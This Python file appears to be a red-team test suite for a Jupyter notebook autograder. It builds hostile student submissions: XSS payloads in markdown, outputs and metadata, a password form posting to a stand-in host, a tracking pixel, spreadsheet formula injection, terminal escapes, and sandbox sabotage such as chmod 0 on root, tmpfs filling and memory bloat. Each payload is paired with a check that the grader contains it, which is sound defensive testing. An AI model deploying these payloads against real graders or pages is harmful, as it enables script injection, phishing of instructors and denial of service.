
XSS_CODE = '''
from IPython.display import display as _rt_d, HTML as _rt_H, SVG as _rt_S, Javascript as _rt_J, Markdown as _rt_M
_rt_d(_rt_H("<script>RTXSS4()</script>"))
_rt_d(_rt_S('<svg xmlns="http://www.w3.org/2000/svg" onload="RTXSS5()"><circle r="1"/></svg>'))
_rt_d(_rt_J("RTXSS6()"))
_rt_d(_rt_M("<script>RTXSS11()</script>"))
_rt_d({"text/html": "<img src=x onerror=RTXSS15()>"}, raw=True)
class _RtHtml:
    def _repr_html_(self):
        return "<script>RTXSS10()</script>"
_RtHtml()
'''
XSS_VECTORS = {
    1: "markdown cell with <script>",
    2: "markdown cell with an onerror handler",
    3: "raw cell of format text/html with <script>",
    4: "HTML output with <script>",
    5: "SVG output with an onload handler",
    6: "application/javascript output",
    8: "markdown javascript: link",
    9: "markdown <meta http-equiv=refresh>",
    10: "a value whose _repr_html_ has <script>",
    11: "Markdown output with <script>",
    12: "notebook metadata (widget state) closing the <script> it is embedded in",
    13: "markdown <iframe srcdoc>",
    15: "raw text/html display data with an onerror handler",
    16: "markdown image from a remote server (a tracking pixel in the instructor's browser)",
    17: "markdown <form> posting to a remote server (phishing the instructor)",
    18: "markdown <style> restyling the whole page",
    19: "markdown link to a data:text/html URL",
}


def _xss_notebook(notebook):
    notebook = _add_cells(
        ("markdown", "<script>RTXSS1()</script>", {}),
        ("markdown", '<img src="x" onerror="RTXSS2()">', {}),
        ("raw", "<script>RTXSS3()</script>", {"metadata": {"format": "text/html", "raw_mimetype": "text/html"}}),
        ("markdown", "[click me](javascript:RTXSS8())", {}),
        ("markdown", '<meta http-equiv="refresh" content="0;url=http://rt.invalid/RTXSS9">', {}),
        ("markdown", '<iframe srcdoc="RTXSS13"></iframe>', {}),
        ("markdown", "![x](http://rt.invalid/RTXSS16.png)", {}),
        ("markdown", '<form action="http://rt.invalid/RTXSS17"><input name="password"></form>', {}),
        ("markdown", "<style>body { display: none } /* RTXSS18 */</style>", {}),
        ("markdown", "[open](data:text/html;base64,PHNjcmlwdD5SVFhTUzE5PC9zY3JpcHQ+) RTXSS19", {}),
    )(notebook)
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"rt": "</script><script>RTXSS12()</script>"}}}
    notebook.metadata["title"] = "</title><script>RTXSS12()</script>"
    return notebook


reports = [reference("a_reference"), Student("xss", answers=ref_plus(T1, "relu", XSS_CODE), mutate=_xss_notebook)]
for number, what in XSS_VECTORS.items():
    add(Attack(f"xss_{number:02d}", 6, "reports", reports[1], f"student markup reaching the instructor: {what}",
               checks=[no_live_markup(f"RTXSS{number}")]))
for attack in [
    Attack("terminal_escapes_in_reasons", 10, "reports", Student("escapes", answers={
        "linear": WRONG_T1_LINEAR + "\n" + S.ESCAPE_RAISE}),
        "Linear.forward prints and raises text with OSC/CSI escapes, CR, NUL and backspace",
        baseline=None, targets=("test_linear",), spill=T1_SPILL, checks=[reports_have_no_control_characters]),
    Attack("formula_in_reason", 10, "reports", Student("formula", answers={
        "linear": WRONG_T1_LINEAR + "\n" + S.FORMULA_ERROR}),
        "a forged error reply that starts with =HYPERLINK(...)", targets=("test_linear",), spill=T1_SPILL,
        checks=[reports_have_no_formulas]),
    Attack("fake_report_lines", 10, "reports",
           Student("fake_lines", answers=ref_plus(T1, "linear", S.FAKE_REPORT_LINES)),
           "prints lines that look like the grader's own report during the check", checks=[no_fake_report_lines]),
]:
    reports.append(attack.student)
    add(attack)

ID_TAGS = {"formula": '=HYPERLINK("rt.invalid","RTID")', "dot": ".rt_dotted", "glob": "[x]", "plainx": "x",
           "star": "*", "unicode": "ünï cödé"}
for tag, folder in ID_TAGS.items():
    student = Student(f"id_{tag}", folder=folder, mutate=_add_cells(("markdown", f"RTID-{tag}", {})))
    reports.append(student)
    checks = [grades_row_exact, own_html_feedback(tag, list(ID_TAGS))]
    if tag == "formula":
        checks.append(reports_have_no_formulas)
    add(Attack(f"student_id_{tag}", 10, "reports", student, f"a student folder named {folder!r}", checks=checks,
               contained=False))  # refusing an id formgrader cannot show is fair, with a row
reports.append(reference("zz_reference"))
BATCH_STUDENTS["reports"] = reports


# ================================================================== batch persist (leftovers)
persist = [reference("a_reference"), Student("b_untouched", role="untouched", untouched=True)]
attack = add(Attack("leftover_writer", 2, "persist", Student("leftover_writer", answers=ref_plus(
    T1, "linear", S.leftover_writer(reference_answers(T1)["linear"]))),
    "writes its Linear into every folder of the sandbox it can (/, /opt, /root, /work, /dev, ...)"))
persist += [attack.student, reference("r0_reference")]
attack = add(Attack("leftover_reader", 2, "persist", Student("leftover_reader", untouched=False, answers={
    **{gid: "raise NotImplementedError()" for gid in reference_answers(T1)}, "linear": S.LEFTOVER_READER}),
    "a student with no code of its own execs what an earlier student left in the sandbox",
    baseline="b_untouched", targets="all"))
persist.append(attack.student)
persist.append(reference("r1_reference"))
attack = add(Attack("fill_root_tmpfs", 7, "persist",
                    Student("fill_tmpfs", answers=ref_plus(T1, "tanh", S.fill("/opt", 192))),
                    "writes 192 MB into /opt, on the sandbox's memory-backed root (never emptied)",
                    checks=[wrote_at_most(WRITABLE_MB)]))
persist += [attack.student, reference("zz_reference")]
BATCH_STUDENTS["persist"] = persist


# ================================================================== one-attack batches
SOLO = {}  # batch name -> (attack, html)


def solo(attack, html=False, split=False):
    SOLO[attack.batch] = (attack, html, split)
    return add(attack)


sabotage = []
for name, code, summary in [
    ("deep_scratch_tree", S.DEEP_TREE, "makes a directory tree 1500 deep in the scratch folder (the grader's "
                                       "recursive clean-up fails)"),
    ("chmod_root", S.CHMOD_ROOT, "chmod 0 on the sandbox's root (owned by the same uid, never reset)"),
    ("rename_env_parent", S.RENAME_ENV_PARENT, "renames the folder above the read-only environment mount"),
    ("prlimit_zygote", S.PRLIMIT_ZYGOTE, "lowers the zygote's rlimits (address space, data, file size, stack, "
                                         "signals), renices it to 19 and pins it to one CPU"),
]:
    attack = add(Attack(name, 2, "sabotage", Student(name, answers=ref_plus(T1, "relu", code)), summary,
                        contained=False))
    sabotage += [attack.student, reference(f"{name}_victim")]
BATCH_STUDENTS["sabotage"] = sabotage

solo(Attack("callback_flood_blocks_grader", 7, "solo-callback_flood", Student("callback_flood", answers=ref_plus(
    T1, "linear", S.CALLBACK_FLOOD)),
    "Linear.forward floods forged callback requests and never reads the grader's answers: grader and "
    "zygote block writing to each other (the test's watchdog ends the stuck worker after 6.5 s)",
    # Bounded by the configured limits, no longer by the pool's per-student time-out: the notebook's
    # own flooding cells cost at most a cell limit between them, the trusted checks their budget.
    targets=("test_linear",), spill=T1_SPILL, checks=[held_below("rt-c7block", 2 * CELL_TIMEOUT + SOLO_CHECKS_BUDGET)]))

def _bloated(notebook):
    notebook.cells[0]["metadata"]["rt_padding"] = "RT" * (30 * 2**20)  # 60 MB, under the 64 MB intake limit
    return json.dumps(notebook)


def main_process_bounded(limit_mb=256):
    def check(ctx):
        problems = []
        growth = ctx.graded.monitor.main_growth_mb() if ctx.graded.monitor else 0.0
        if growth > limit_mb:
            problems.append(f"the grading command's own process grew by {growth:.0f} MB for this one student "
                            f"(a class of such notebooks is held in memory at once)")
        kept = [name for name, nb in (ctx.result.notebooks.items() if ctx.result else ())
                if any("rt_padding" in cell.get("metadata", {}) for cell in nb.cells)]
        if kept:
            problems.append("the grader keeps the student's 60 MB of padding in memory (in the graded notebook) "
                            "until the whole class is done")
        path = ctx.graded.workspace / "autograded" / ctx.folder / ctx.assignment / f"{ctx.assignment}.ipynb"
        if path.exists() and path.stat().st_size > 16 * 2**20:
            problems.append(f"the graded notebook kept {path.stat().st_size // 2**20} MB of the student's padding")
        return problems
    return check


solo(Attack("bloated_notebook", 7, "solo-bloated_notebook", Student("bloated", write=_write_json(_bloated)),
            "a 60 MB notebook (padding in a cell's metadata, just under the 64 MB intake limit)",
            checks=[main_process_bounded()]))

surrogates = [reference("a_reference")]
for attack in [
    Attack("lone_surrogate_printed", 4, "surrogates", Student("surrogate_printed", answers=ref_plus(
        T1, "relu", S.SURROGATE_PRINT)), "a cell prints a lone surrogate (not encodable as UTF-8)"),
    Attack("lone_surrogate_in_reason", 4, "surrogates", Student("surrogate_reason", answers={
        "linear": WRONG_T1_LINEAR + "\n" + S.SURROGATE_RAISE}),
        "Linear.forward raises an exception whose message has a lone surrogate", baseline=None,
        targets=("test_linear",), spill=T1_SPILL),
    Attack("lone_surrogate_in_markdown", 4, "surrogates", Student("surrogate_markdown", mutate=_add_cells(
        ("markdown", "RT \udcff lone surrogate", {}))), "the notebook file has a markdown cell with a lone "
                                                        "surrogate (valid JSON: \\udcff)"),
]:
    surrogates.append(add(attack).student)
surrogates.append(reference("zz_reference"))
BATCH_STUDENTS["surrogates"] = surrogates

newline = [reference("a_reference")]
attack = add(Attack("student_id_newline", 10, "ids-newline", Student("id_newline", folder="rt\nnewline",
                                                                      mutate=_add_cells(
    ("markdown", "RTID-newline", {}))), "a student folder whose name has a newline", contained=False,
    checks=[grades_row_exact, own_html_feedback("newline", ["newline"])]))
newline.append(attack.student)
attack = add(Attack("student_ids_that_collide", 10, "ids-newline", Student(
    "id_newline_twin", folder="rt newline", mutate=_add_cells(("markdown", "RTID-twin", {}))),
    "an honest student 'rt newline' next to a folder 'rt\\nnewline' (control characters "
                                     "replaced: two rows with one id?)", checks=[grades_row_exact,
                                     own_html_feedback("twin", ["newline", "twin"])]))
newline += [attack.student, reference("zz_reference")]
BATCH_STUDENTS["ids-newline"] = newline


def batches():
    """{batch name: Batch} of every batch the attacks need."""
    found = {
        "t1": Batch("t1", T1, BATCH_STUDENTS["t1"], LIMITS, checks_budget=CHECKS_BUDGET),
        "t2": Batch("t2", T2, BATCH_STUDENTS["t2"], LIMITS),
        "t3": Batch("t3", T3, BATCH_STUDENTS["t3"], LIMITS_T3),
        "intake": Batch("intake", T1, BATCH_STUDENTS["intake"], LIMITS, split_on_crash=True),
        "reports": Batch("reports", T1, BATCH_STUDENTS["reports"], LIMITS, html=True, split_on_crash=True),
        "persist": Batch("persist", T1, BATCH_STUDENTS["persist"], LIMITS),
        "ids-newline": Batch("ids-newline", T1, BATCH_STUDENTS["ids-newline"], LIMITS, html=True),
        "surrogates": Batch("surrogates", T1, BATCH_STUDENTS["surrogates"], LIMITS, split_on_crash=True),
        "sabotage": Batch("sabotage", T1, BATCH_STUDENTS["sabotage"], LIMITS, split_on_harm=True),
    }
    for name, (attack, html, split) in SOLO.items():
        found[name] = Batch(name, T1, [attack.student, reference("zz_victim")], LIMITS, html=html,
                            split_on_crash=split, checks_budget=SOLO_CHECKS_BUDGET, watchdog={"rt-c7block": 6.5})
    return found
